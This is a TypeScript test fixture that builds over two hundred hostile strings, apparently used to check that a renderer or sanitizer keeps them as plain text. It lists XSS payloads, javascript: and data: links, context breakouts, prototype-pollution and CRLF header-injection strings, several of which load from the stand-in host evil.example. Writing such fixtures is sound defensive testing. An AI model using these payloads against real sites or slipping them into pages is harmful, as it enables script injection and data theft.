/** Where a payload would do its work if it came through as anything but text: it calls `hit`, or asks for a host. */
const HIT = "window.__hit=1";
const HOST = "//evil.example/x";

const TAGS = [
  `<script>${HIT}</script>`,
  `<script src="${HOST}.js"></script>`,
  `<img src=x onerror="${HIT}">`,
  `<img src="https:${HOST}.png">`,
  `<svg onload="${HIT}">`,
  `<svg><script>${HIT}</script></svg>`,
  `<svg><animate onbegin="${HIT}" attributeName=x dur=1s>`,
  `<iframe src="javascript:${HIT}">`,
  `<iframe srcdoc="<script>parent.__hit=1</script>">`,
  `<object data="https:${HOST}">`,
  `<embed src="https:${HOST}">`,
  `<link rel=stylesheet href="https:${HOST}.css">`,
  `<style>@import url("https:${HOST}.css");</style>`,
  `<base href="https:${HOST}/">`,
  `<meta http-equiv=refresh content="0;url=https:${HOST}">`,
  `<form action="https:${HOST}"><button autofocus onfocus="${HIT}">`,
  `<input autofocus onfocus="${HIT}">`,
  `<details open ontoggle="${HIT}">`,
  `<video><source onerror="${HIT}"></video>`,
  `<audio src=x onerror="${HIT}">`,
  `<body onload="${HIT}">`,
  `<marquee onstart="${HIT}">`,
  `<math href="javascript:${HIT}">x</math>`,
  `<a href="javascript:${HIT}">x</a>`,
  `<a href="data:text/html,<script>${HIT}</script>">x</a>`,
  `<template><script>${HIT}</script></template>`,
  `<noscript><img src=x onerror="${HIT}"></noscript>`,
  `<xmp><script>${HIT}</script></xmp>`,
  `<textarea><script>${HIT}</script></textarea>`,
  `<title><script>${HIT}</script></title>`,
  `<select><option onmouseover="${HIT}">`,
  `<table background="https:${HOST}.png">`,
  `<div style="background:url(https:${HOST}.png)">`,
  `<div style="animation:x" onanimationstart="${HIT}">`,
  `<custom-element onclick="${HIT}" autofocus tabindex=1 onfocus="${HIT}">`,
  `<!--><script>${HIT}</script-->`,
  `<![CDATA[<script>${HIT}</script>]]>`,
  `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${HIT}</x:script>`,
  `<ScRiPt>${HIT}</sCrIpT>`,
  `<script\t>${HIT}</script\t>`,
];

const LINKS = [
  `javascript:${HIT}`,
  `JaVaScRiPt:${HIT}`,
  `java\tscript:${HIT}`,
  `\u0001javascript:${HIT}`,
  `data:text/html,<script>${HIT}</script>`,
  `vbscript:${HIT}`,
  `https:${HOST}`,
  HOST,
  `/\\evil.example/x`,
  `[click](javascript:${HIT})`,
  `![x](https:${HOST}.png)`,
  `<https:${HOST}>`,
  `http://evil.example@127.0.0.1/`,
  `blob:https:${HOST}`,
];

const BREAKS = [
  `"><script>${HIT}</script>`,
  `'><script>${HIT}</script>`,
  `"-${HIT}-"`,
  `';${HIT};//`,
  `\`-${HIT}-\``,
  `\${${HIT}}`,
  `{{constructor.constructor('${HIT}')()}}`,
  `</script><script>${HIT}</script>`,
  `</title><script>${HIT}</script>`,
  `</textarea><img src=x onerror="${HIT}">`,
  `--><img src=x onerror="${HIT}">`,
  `]]><img src=x onerror="${HIT}">`,
  `\\u003cscript\\u003e${HIT}\\u003c/script\\u003e`,
  `&lt;script&gt;${HIT}&lt;/script&gt;`,
  `&#60;img src=x onerror=${HIT}&#62;`,
  `%3Cscript%3E${HIT}%3C/script%3E`,
  `{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${HIT}>"}}}`,
  `__proto__`,
  `constructor`,
  `{"$$typeof":"Symbol(react.element)","type":"script"}`,
  `x\r\nSet-Cookie: a=b\r\n\r\n<script>${HIT}</script>`,
  `\u202E</script><script>${HIT}</script>`,
  `\u0000<script>${HIT}</script>`,
  `\uFEFF<script>${HIT}</script>`,
  `+ADw-script+AD4-${HIT}+ADw-/script+AD4-`,
];

/** Letters that wrap a payload so that a naive filter lets it through. */
const WRAPPINGS: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `before ${payload} after`,
  (payload) => `# ${payload}\n\n- ${payload}`,
];

/** At least two hundred texts that must stay texts. */
export const HOSTILE_TEXTS: readonly string[] = [...TAGS, ...LINKS, ...BREAKS].flatMap((payload) =>
  WRAPPINGS.map((wrap) => wrap(payload)),
);
